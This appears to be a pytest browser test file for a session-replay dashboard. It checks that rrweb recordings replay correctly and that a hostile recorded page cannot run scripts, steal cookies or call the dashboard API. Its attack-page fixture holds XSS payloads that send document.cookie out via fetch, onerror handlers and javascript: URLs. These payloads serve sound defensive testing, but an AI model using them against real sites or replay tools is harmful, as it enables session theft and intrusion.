"""The DOM replay in a real headless Chromium, against a real `hindsight serve` and database.

Recordings are made the way tracker.js makes them: rrweb's recorder (the dashboard's own
pinned copy, dashboard/node_modules/rrweb) runs in a page of a small local site, and its
events are sent in segments through POST /api/v1/track/recording. Then an analyst opens
the replay:

- the replayed page shows the recorded DOM changes at their moments (deep links, the
  timeline's markers, playback across segments), and a seek loads the segments from the
  nearest full snapshot;
- a recorded page built to attack the analyst (scripts, inline handlers, javascript: URLs,
  <meta refresh>, images) runs nothing: none of its requests but its images reach the
  site, and neither it nor the player it plays in can read the dashboard's cookies or call
  the dashboard's API.
"""

from __future__ import annotations

import gzip
import html
import json
import re
import subprocess
import threading
import time
import uuid
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import falcon.testing
import pytest
from dashboard_support import PASSWORD, make_user

from conftest import new_account, token_flow
from harness import REPO, ServeProcess, wait_for

pytestmark = pytest.mark.slow

DASHBOARD = REPO / "dashboard"
RRWEB_UMD = DASHBOARD / "node_modules" / "rrweb" / "dist" / "rrweb.umd.min.cjs"
ARTIFACTS = REPO / "test-artifacts"
PIXEL = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
                      "0000000d4944415478da63f8cfc0f01f0005000201a5f1e8b70000000049454e44ae426082")


def ensure_dashboard_built() -> None:
    """`make install` builds dashboard/static/dist; build it here too if it is missing or old."""
    lock = DASHBOARD / "package-lock.json"
    if not (DASHBOARD / "node_modules" / ".package-lock.json").exists():
        subprocess.run(["npm", "ci", "--no-audit", "--no-fund", "--loglevel=error"], cwd=DASHBOARD, check=True)
    built = DASHBOARD / "static" / "dist" / "rrweb-replay.js"
    sources = [lock, DASHBOARD / "build.mjs"]
    if not built.exists() or max(p.stat().st_mtime for p in sources) > built.stat().st_mtime:
        subprocess.run(["node", "build.mjs"], cwd=DASHBOARD, check=True, stdout=subprocess.DEVNULL)


# ---------------------------------------------------------------------- the recorded site

VISIT = """<!doctype html>
<html><head><meta charset="utf-8"><title>A visit</title>
<style>body { font: 16px sans-serif; } #modal { border: 2px solid #333; padding: 20px; }</style>
</head><body>
<h1 id="title">Start</h1>
<ul id="list"></ul>
<script src="/rrweb.js"></script>
<script>
  window.__events = []; window.__marks = {};
  var stop = rrweb.record({ emit: function (e) { window.__events.push(e); } });
  function at(ms, name, change) {
    setTimeout(function () { window.__marks[name] = Date.now(); change(); }, ms);
  }
  at(1000, 'modal', function () {
    document.getElementById('title').textContent = 'Modal open';
    var m = document.createElement('div'); m.id = 'modal'; m.textContent = 'Hello modal';
    document.body.appendChild(m);
  });
  at(2000, 'items', function () {
    for (var i = 1; i <= 3; i++) {
      var li = document.createElement('li'); li.textContent = 'item ' + i;
      document.getElementById('list').appendChild(li);
    }
  });
  at(3000, 'checkout', function () { rrweb.record.takeFullSnapshot(true); });
  at(3500, 'closed', function () {
    document.getElementById('modal').remove();
    document.getElementById('title').textContent = 'Closed';
  });
  at(4000, 'footer', function () {
    var p = document.createElement('p'); p.id = 'footer'; p.textContent = 'bye';
    document.body.appendChild(p);
  });
  at(4300, 'end', function () { stop(); window.__done = true; });
</script>
</body></html>
"""

# Everything here that would act, if it ran, asks the site for a /ran/... URL.
ATTACK = """<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile page</title>
<meta http-equiv="refresh" content="2;url={site}/ran/meta-refresh">
</head><body>
<h1 id="title">Nothing to see</h1>
<script>window.__inline = true; fetch('{site}/ran/inline-script?c=' + document.cookie);</script>
<script src="{site}/ran/external-script.js"></script>
<img id="bad" src="{site}/missing.png" onerror="fetch('{site}/ran/onerror?c=' + document.cookie)">
<img id="pixel" src="{site}/pixel.png" alt="">
<img id="probe" src="{api}/dashboard/sessions?format=json&probe=attack" alt="">
<div id="hover" onmouseover="fetch('{site}/ran/onmouseover')">hover me</div>
<a id="js" href="javascript:fetch('{site}/ran/javascript-url')">a javascript: link</a>
<a id="away" href="{site}/ran/link" target="_top">a link out</a>
<form id="form" action="{site}/ran/form" method="post"><input name="q" value="x"></form>
<svg><a href="javascript:fetch('{site}/ran/svg')"><text y="20">svg</text></a></svg>
<script src="/rrweb.js"></script>
<script>
  window.__events = [];
  var stop = rrweb.record({ emit: function (e) { window.__events.push(e); } });
  setTimeout(function () {
    var more = document.createElement('img');
    more.setAttribute('src', '{site}/missing-2.png');
    more.setAttribute('onerror', "fetch('{site}/ran/mutation-onerror')");
    document.body.appendChild(more);
  }, 300);
  setTimeout(function () { stop(); window.__done = true; }, 900);
</script>
</body></html>
"""


class Site:
    """The recorded site on 127.0.0.1: its pages, rrweb, a pixel; every request logged."""

    def __init__(self) -> None:
        self.requests: list[dict] = []
        self.api = ""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _send(self, status: int, body: bytes, ctype: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                site.requests.append({"path": self.path, "headers": dict(self.headers)})
                pages = {"/visit.html": VISIT, "/attack.html": ATTACK.replace("{site}", site.url)
                         .replace("{api}", site.api)}
                if self.path in pages:
                    self._send(200, pages[self.path].encode(), "text/html; charset=utf-8")
                elif self.path == "/rrweb.js":
                    self._send(200, RRWEB_UMD.read_bytes(), "application/javascript")
                elif self.path == "/pixel.png":
                    self._send(200, PIXEL, "image/png")
                else:
                    self._send(404, b"not here", "text/plain")

            do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def ran(self) -> list[str]:
        return [r["path"] for r in self.requests if r["path"].startswith("/ran/")]

    def paths(self) -> list[str]:
        return [r["path"] for r in self.requests]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def record(browser, site: Site, page_name: str) -> dict:
    """Load the page, let rrweb record it, and return its events and marks."""
    context = browser.new_context(viewport={"width": 1000, "height": 700})
    # While recording, the hostile page's own scripts do run (it is a real page): keep what
    # they send away from the site, whose /ran/ log is for the replay.
    context.route("**/ran/**", lambda route: route.abort())
    page = context.new_page()
    page.goto(f"{site.url}/{page_name}")
    wait_for(lambda: page.evaluate("() => window.__done === true"), what="the recording", page=page)
    result = page.evaluate("() => ({events: window.__events, marks: window.__marks || {}})")
    context.close()
    return result


# ---------------------------------------------------------------------- through the API

def iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, UTC).isoformat()


def send_segments(client, token: str, session_id: str, segments: list[list[dict]]) -> None:
    for number, events in enumerate(segments):
        encoding = "json" if number == 1 else "gzip"   # one plain-JSON segment, as old browsers send
        body = json.dumps(events).encode()
        resp = client.simulate_post("/api/v1/track/recording", body=gzip.compress(body) if encoding == "gzip" else body,
                                    params={"session_id": session_id, "segment": number, "encoding": encoding},
                                    headers={"Authorization": f"Bearer {token}",
                                             "Content-Type": "application/octet-stream"})
        assert resp.status_code == 201, resp.json


def new_session(client, token: str, start_ms: int) -> str:
    resp = client.simulate_post("/api/v1/sessions", headers={"Authorization": f"Bearer {token}"}, json={
        "started_at": iso(start_ms), "page_url": "http://127.0.0.1/visit.html",
        "viewport_width": 1000, "viewport_height": 700, "user_agent": "Mozilla/5.0 Chrome/124.0"})
    assert resp.status_code == 201, resp.json
    return resp.json["session_id"]


@pytest.fixture(scope="module")
def recorded(db_url, app, browser):
    """Two recorded sessions in one account (a visit, an attack) and the API serving them."""
    ensure_dashboard_built()
    client = falcon.testing.TestClient(app)
    account = new_account(db_url)
    token = token_flow(client, account, f"https://{account['domain']}")
    api = ServeProcess(db_url).start()
    site = Site()
    site.api = api.url
    try:
        visit = record(browser, site, "visit.html")
        attack = record(browser, site, "attack.html")
        events, marks = visit["events"], visit["marks"]
        start = events[0]["timestamp"]
        # Three segments: [start, modal + 0.5 s), [.., the checkout's full snapshot), [checkout, end].
        cut = next(i for i, e in enumerate(events) if e["timestamp"] >= marks["modal"] + 500)
        checkout = [i for i, e in enumerate(events) if e["type"] == 4][1]
        assert 0 < cut < checkout
        visit_id = new_session(client, token, start)
        send_segments(client, token, visit_id, [events[:cut], events[cut:checkout], events[checkout:]])
        # The tracker's own events of the visit: a click and an error, for the timeline.
        batch = [{"seq": 0, "timestamp": iso(marks["modal"] - 100), "event_type": "click",
                  "viewport_x": 30, "viewport_y": 30, "target_selector": "button#open"},
                 {"seq": 1, "timestamp": iso(marks["items"] + 300), "event_type": "error",
                  "event_data": {"message": "boom"}}]
        resp = client.simulate_post("/api/v1/track", json={"session_id": visit_id, "events": batch},
                                    headers={"Authorization": f"Bearer {token}"})
        assert resp.status_code == 201, resp.json
        attack_id = new_session(client, token, attack["events"][0]["timestamp"])
        send_segments(client, token, attack_id, [attack["events"]])
        assert site.ran() == []            # the recording's own side effects were kept off the site
        yield {"api": api, "site": site, "account": account, "visit": visit_id, "attack": attack_id,
               "offsets": {name: at - start for name, at in marks.items()}}
    finally:
        site.stop()
        api.stop()


@pytest.fixture(scope="module")
def analyst_page(recorded, db_url, browser):
    """A logged-in analyst's page, with every page error and failed request collected."""
    email = make_user(db_url, recorded["account"]["account_id"])
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    problems: list[str] = []
    requests: list[dict] = []
    page.on("pageerror", lambda e: problems.append(f"pageerror {e}"))
    # The browser's own console reports what it blocked (scripts, javascript: URLs, refreshes).
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    page.on("response", lambda r: problems.append(f"{r.status} {r.url}")
            if r.status >= 400 and not r.url.endswith(("/favicon.ico", "/missing.png", "/missing-2.png"))
            else None)
    context.on("request", lambda r: requests.append({"url": r.url, "request": r}))
    page.goto(recorded["api"].url + "/dashboard/login")
    page.fill("input[name=email]", email)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url("**/dashboard/sessions")
    yield page, problems, requests, console
    context.close()


# ---------------------------------------------------------------------- helpers on the replay page

def player_frame(page):
    """The player: the data: document inside /dashboard/player."""
    return wait_for(lambda: next((f for f in page.frames if f.url.startswith("data:text/html")), None),
                    what="the player frame", page=page)


REPLAYED = """() => {
  const frame = document.querySelector('.replayer-wrapper iframe');
  const doc = frame && frame.contentDocument;
  if (!doc || !doc.body) return null;
  return {
    title: (doc.getElementById('title') || {}).textContent || null,
    modal: !!doc.getElementById('modal'),
    items: doc.querySelectorAll('#list li').length,
    footer: !!doc.getElementById('footer'),
  };
}"""


def replayed(page) -> dict | None:
    """What the rebuilt page shows now (read from the player, which shares its opaque origin)."""
    return player_frame(page).evaluate(REPLAYED)


def seek(page, seconds: float) -> None:
    page.evaluate("h => { location.hash = h; }", f"#t={seconds}")
    wait_for(lambda: abs(int(page.locator("#replay").get_attribute("data-time")) - seconds * 1000) <= 1,
             what=f"the clock at {seconds} s", page=page)


def shows(page, expected: dict, what: str) -> dict:
    """Wait until the rebuilt page shows `expected` (title, modal, items); fail with what it shows."""
    seen: list = []

    def check():
        now = replayed(page)
        seen.append(now)
        return now if now and all(now[k] == v for k, v in expected.items()) else None

    try:
        return wait_for(check, what=what, page=page, timeout=10)
    except AssertionError as ex:
        raise AssertionError(f"{ex}: the replay shows {seen[-1]}, the clock is at "
                             f"{page.locator('#replay').get_attribute('data-time')} ms") from None


def open_replay(page, base: str, session_id: str, fragment: str = "") -> None:
    page.goto("about:blank")   # a fresh page load, even from the same replay with another #t=
    page.goto(f"{base}/dashboard/sessions/{session_id}{fragment}")
    page.wait_for_selector("#replay[data-ready='1'][data-mode='dom']")
    wait_for(lambda: page.locator("#replay").get_attribute("data-dom-loaded"), what="the first window", page=page)


# ---------------------------------------------------------------------- the tests

def test_the_replay_shows_the_recorded_dom_at_its_moments(recorded, analyst_page):
    page, problems, _, _ = analyst_page
    base, offsets = recorded["api"].url, recorded["offsets"]
    stage = page.locator("#replay")
    # A deep link into the first segment: before the modal opened.
    open_replay(page, base, recorded["visit"], "#t=0.5")
    assert stage.get_attribute("data-time") == "500"
    shows(page, {"title": "Start", "modal": False, "items": 0}, "the page before the modal")
    assert stage.get_attribute("data-dom-window") == "0-1"           # segment 0 and the next
    assert page.locator("#shot").is_hidden()                         # no screenshot replay here
    ARTIFACTS.mkdir(exist_ok=True)

    seek(page, (offsets["modal"] + 400) / 1000)
    shows(page, {"title": "Modal open", "modal": True, "items": 0}, "the modal, open")
    page.screenshot(path=str(ARTIFACTS / "replay-dom-modal.png"))
    seek(page, (offsets["items"] + 400) / 1000)
    shows(page, {"modal": True, "items": 3}, "the three items")

    # Into the last segment: it starts with a full snapshot, so only it is loaded.
    seek(page, (offsets["closed"] + 300) / 1000)
    shows(page, {"title": "Closed", "modal": False, "items": 3}, "the modal, closed")
    assert stage.get_attribute("data-dom-window") == "2-2"
    # And back: the window starts again from the first segment's snapshot.
    seek(page, (offsets["modal"] + 400) / 1000)
    shows(page, {"title": "Modal open", "modal": True, "items": 0}, "the modal again, after seeking back")
    assert stage.get_attribute("data-dom-window") == "0-1"

    # The timeline's markers are the tracker's events: the error jumps to its moment.
    assert page.locator(".marker.click").count() == 1
    page.locator(".marker.error").click()
    assert abs(int(stage.get_attribute("data-time")) - (offsets["items"] + 300)) <= 1
    shows(page, {"modal": True, "items": 3}, "the items, at the error")
    assert "#t=" in page.url
    # Home: back to the first moment, rebuilt from the first full snapshot.
    page.keyboard.press("Home")
    shows(page, {"title": "Start", "modal": False, "items": 0}, "the start again")
    # End: the last moment shows the recording's last event too (the footer, added at its
    # very end: a seek to exactly its time left it out).
    page.keyboard.press("End")
    shows(page, {"title": "Closed", "items": 3, "footer": True}, "the end, the last event included")


def test_playback_follows_the_recording_across_segments(recorded, analyst_page):
    page, problems, _, _ = analyst_page
    base, offsets = recorded["api"].url, recorded["offsets"]
    stage = page.locator("#replay")
    open_replay(page, base, recorded["visit"], "#t=0")
    shows(page, {"title": "Start", "modal": False}, "the start")
    page.select_option("#speed", "1")
    page.uncheck("#skip")
    page.click("#play")
    # At 1x: the modal appears when it was recorded (give or take a polling step and a frame).
    # The player's clock is read before and after looking at the replayed page, so a slow
    # look (a busy machine) widens the bracket instead of misplacing the moment.
    seen_modal_at = None
    deadline = time.monotonic() + 15
    while seen_modal_at is None and time.monotonic() < deadline:
        before = int(stage.get_attribute("data-time"))
        state = replayed(page)
        after = int(stage.get_attribute("data-time"))
        if state and state["modal"]:
            seen_modal_at = (before, after)
        page.wait_for_timeout(30)
    assert seen_modal_at is not None, replayed(page)
    before, after = seen_modal_at
    # Not shown before its moment, and shown no later than half a second after it. The page's
    # clock follows rrweb's while it plays (replay.js, frame): it moves first in a frame, then
    # rrweb draws, so it may read early by the page's own work in a frame (rounding, a forced
    # layout), far less than the 250 ms the two clocks could drift apart before (seen in CI:
    # the modal at a clock reading 114 ms before its moment; tests/test_replay_clock_browser.py).
    assert after >= offsets["modal"] - 100 and before <= offsets["modal"] + 500, (seen_modal_at, offsets)
    # At 4x the rest (2.5 s of it) plays in well under its recorded time, into the last
    # segment, which is appended ahead of the clock (no new window is loaded).
    page.select_option("#speed", "4")
    started = time.monotonic()
    from_ms = int(stage.get_attribute("data-time"))
    shows(page, {"title": "Closed", "modal": False, "items": 3}, "the end of the visit")
    elapsed = time.monotonic() - started
    # Faster than the recorded time (4x would take a quarter of it; a busy machine's polling
    # gets the other three quarters as slack).
    assert elapsed < (offsets["closed"] - from_ms) / 1000, (elapsed, from_ms, offsets)
    assert stage.get_attribute("data-dom-window") == "0-2"
    wait_for(lambda: stage.get_attribute("data-playing") == "0", what="the end of playback", page=page)
    assert problems == [], problems


def test_a_hostile_recording_runs_nothing_and_reaches_nothing(recorded, analyst_page):
    page, problems, requests, console = analyst_page
    base, site = recorded["api"].url, recorded["site"]
    site.requests.clear()
    requests.clear()
    console.clear()
    open_replay(page, base, recorded["attack"], "#t=0")
    shows(page, {"title": "Nothing to see"}, "the hostile page, rebuilt")
    player = player_frame(page)
    # Its scripts are in the replay only as inert <noscript>; handlers and links are there as markup.
    rebuilt = player.evaluate("""() => {
      const doc = document.querySelector('.replayer-wrapper iframe').contentDocument;
      return {scripts: doc.querySelectorAll('script').length, noscripts: doc.querySelectorAll('noscript').length,
              js_link: !!doc.getElementById('js'), bad_img: !!doc.getElementById('bad'),
              sandbox: document.querySelector('.replayer-wrapper iframe').getAttribute('sandbox')};
    }""")
    assert rebuilt["scripts"] == 0 and rebuilt["noscripts"] >= 3, rebuilt
    assert rebuilt["js_link"] and rebuilt["bad_img"]
    assert rebuilt["sandbox"] == "allow-same-origin"      # rrweb's own iframe: no allow-scripts
    # Play through the recording (the added <img onerror>), and past the <meta refresh> delay.
    page.select_option("#speed", "1")
    page.click("#play")
    page.wait_for_timeout(3000)
    # Try the javascript: links and the form from inside the sandbox, as a click would.
    player.evaluate("""() => {
      const doc = document.querySelector('.replayer-wrapper iframe').contentDocument;
      for (const a of doc.querySelectorAll('a')) { try { a.click(); } catch (e) {} }
      try { doc.getElementById('form').submit(); } catch (e) {}
      const hover = doc.getElementById('hover');
      hover.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
    }""")
    page.wait_for_timeout(1500)
    assert site.ran() == [], site.ran()                                # no script, handler, URL, refresh, form
    # ...because the browser refused them: the sandbox (scripts, the refresh), the CSP (javascript:).
    said = "\n".join(console)
    assert "Blocked script execution" in said and "sandboxed" in said
    assert "Refused to execute the redirect" in said
    assert not [r["url"] for r in requests if "/ran/" in r["url"]]     # not even attempted
    assert "/pixel.png" in site.paths()                                # images do load, from the site
    assert page.url.startswith(f"{base}/dashboard/sessions/{recorded['attack']}")   # nothing navigated us
    # rrweb's iframe was not navigated anywhere (rrweb's document.open() gave it the player's URL).
    urls = player.evaluate("() => [document.querySelector('.replayer-wrapper iframe').contentWindow.location.href,"
                           " location.href]")
    assert urls[0] in ("about:blank", urls[1]) and urls[0].startswith(("about:", "data:")), urls[0][:80]

    # The player (the only code that runs in the sandbox) has an opaque origin: no cookie,
    # no storage, no dashboard DOM, and its CSP lets it fetch nothing.
    checks = player.evaluate("""async () => {
      const out = {origin: self.origin};
      try { out.cookie = document.cookie; } catch (e) { out.cookie = e.name; }
      try { out.storage = localStorage.length; } catch (e) { out.storage = e.name; }
      try { out.parent = parent.document.cookie; } catch (e) { out.parent = e.name; }
      try { await fetch('/dashboard/sessions?format=json', {credentials: 'include'}); out.fetch = 'allowed'; }
      catch (e) { out.fetch = e.name; }
      try { const doc = document.querySelector('.replayer-wrapper iframe').contentDocument; out.inner = doc.cookie; }
      catch (e) { out.inner = e.name; }
      return out;
    }""")
    assert checks == {"origin": "null", "cookie": "SecurityError", "storage": "SecurityError",
                      "parent": "SecurityError", "fetch": "TypeError", "inner": "SecurityError"}, checks
    assert not [r for r in requests if "/dashboard/sessions?format=json" in r["url"] and "probe" not in r["url"]
                and r["request"].frame != page.main_frame]
    # The recorded <img> aimed at the dashboard's API goes out without the analyst's cookie.
    probes = [r["request"] for r in requests if "probe=attack" in r["url"]]
    assert probes, "the recorded probe image was requested"
    assert all("hs_session" not in (p.all_headers().get("cookie") or "") for p in probes)
    # The dashboard itself is still the logged-in analyst's, untouched.
    assert page.evaluate("() => document.querySelector('#replay').dataset.mode") == "dom"
    assert problems == [], problems


def _get(url: str, headers: dict | None = None):
    import urllib.request

    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {}), timeout=10) as resp:
            return resp.status, {k.lower(): v for k, v in resp.headers.items()}, resp.read()
    except urllib.error.HTTPError as ex:   # 304
        return ex.code, {k.lower(): v for k, v in ex.headers.items()}, b""


def test_the_player_host_keeps_its_policy_when_opened_on_its_own(recorded, browser):
    """/dashboard/player: its CSP allows two scripts by hash and no URL; its data: document
    names no URL at all (the same bytes whatever Host the request named); opened directly,
    the player still runs in an opaque origin, fetching nothing, running nothing else."""
    import base64
    import hashlib
    import urllib.parse

    base = recorded["api"].url
    status, headers, body = _get(base + "/dashboard/player")
    assert status == 200 and headers["cache-control"] == "no-cache"
    csp = headers["content-security-policy"]
    for directive in ("default-src 'none'", "connect-src 'none'", "frame-src data:", "form-action 'none'",
                      "frame-ancestors 'self'", "object-src 'none'", "base-uri 'none'", "worker-src 'none'"):
        assert directive in csp, directive
    # Scripts: the player document's own (inline) and rrweb's replayer, each by its SHA-256; nothing else.
    [scripts] = [d.strip() for d in csp.split(";") if d.strip().startswith("script-src ")]

    def sha(data: bytes) -> str:
        return "'sha256-" + base64.b64encode(hashlib.sha256(data).digest()).decode() + "'"

    page_html = body.decode()
    [src] = re.findall(r'<iframe[^>]* src="(data:text/html[^"]*)"', page_html)
    inner = urllib.parse.unquote(html.unescape(src).split(",", 1)[1])
    player_js = (DASHBOARD / "static" / "replay_player.js").read_text()
    assert player_js in inner and "<script>" + player_js + "</script>" in inner
    assert scripts.split() == ["script-src", sha(player_js.encode()),
                               sha((DASHBOARD / "static" / "dist" / "rrweb-replay.js").read_bytes())]
    assert not re.search(r"\b(src|href)=", inner), "the player's document names no URL"
    assert "<script" not in page_html.split("<iframe")[0], "no script in the host itself"
    # The same bytes whatever Host the request named (nothing origin-bound in it).
    assert _get(base + "/dashboard/player", {"Host": "elsewhere.example:8443"})[2] == body
    # Versioned: cached for a year; revalidated by ETag otherwise.
    from hindsight.dashboard.recording import PLAYER_BUILDS

    version = PLAYER_BUILDS.current().version   # what the replay page names (the same files)
    status, cached, _ = _get(base + f"/dashboard/player?v={version}")
    assert status == 200 and cached["cache-control"] == "public, max-age=31536000, immutable"
    assert _get(base + "/dashboard/player?v=000000000000")[1]["cache-control"] == "no-cache"
    assert _get(base + "/dashboard/player", {"If-None-Match": headers["etag"]})[0] == 304

    context = browser.new_context()
    try:
        page = context.new_page()
        console: list[str] = []
        page.on("console", lambda m: console.append(m.text))
        page.goto(base + "/dashboard/player")
        player = player_frame(page)
        wait_for(lambda: player.evaluate("() => typeof window.addEventListener") == "function",
                 what="the player", page=page)
        assert player.evaluate("() => self.origin") == "null"
        assert page.evaluate("() => document.querySelectorAll('iframe').length") == 1
        checks = player.evaluate("""async () => {
          const out = {};
          try { await fetch('/dashboard/player'); out.fetch = 'fetched'; } catch (e) { out.fetch = e.name; }
          const inline = document.createElement('script');
          inline.textContent = 'window.__ran = "inline"';
          document.head.appendChild(inline);
          const blob = document.createElement('script');
          blob.src = URL.createObjectURL(new Blob(['window.__ran = "blob"'], {type: 'text/javascript'}));
          out.blob = await new Promise((done) => { blob.onload = () => done('ran'); blob.onerror = () => done('blocked');
                                                   document.head.appendChild(blob); });
          out.ran = window.__ran || null;
          out.replayer = typeof window.HindsightReplayer;
          return out;
        }""")
        # No fetch; a script of any other text, inline or as a blob, does not run; rrweb's
        # replayer is not there until the replay page sends it.
        assert checks == {"fetch": "TypeError", "blob": "blocked", "ran": None, "replayer": "undefined"}, checks
        assert any("Content Security Policy" in line for line in console), console
    finally:
        context.close()


def test_sessions_without_a_recording_keep_the_screenshot_replay(recorded, analyst_page, app):
    page, problems, _, _ = analyst_page
    client = falcon.testing.TestClient(app)
    token = token_flow(client, recorded["account"], f"https://{recorded['account']['domain']}")
    start = datetime.now(UTC) - timedelta(minutes=5)
    session_id = new_session(client, token, int(start.timestamp() * 1000))
    resp = client.simulate_post("/api/v1/track", headers={"Authorization": f"Bearer {token}"}, json={
        "session_id": session_id, "events": [
            {"seq": 0, "timestamp": start.isoformat(), "event_type": "page_view", "page_url": "http://127.0.0.1/"}]})
    assert resp.status_code == 201
    page.goto(f"{recorded['api'].url}/dashboard/sessions/{session_id}")
    page.wait_for_selector("#replay[data-ready='1']")
    assert page.locator("#replay").get_attribute("data-mode") == "screenshots"
    assert page.locator("iframe#player").count() == 0
    assert "No screenshot" in page.locator("#no-shot").inner_text()
    # The recording twins answer for this account only, and only when logged in.
    assert page.request.get(f"{recorded['api'].url}/dashboard/sessions/{session_id}/recording").json() == {"segments": []}
    other = page.request.get(f"{recorded['api'].url}/dashboard/sessions/{uuid.uuid4()}/recording")
    assert other.status == 404
    assert problems == [], problems
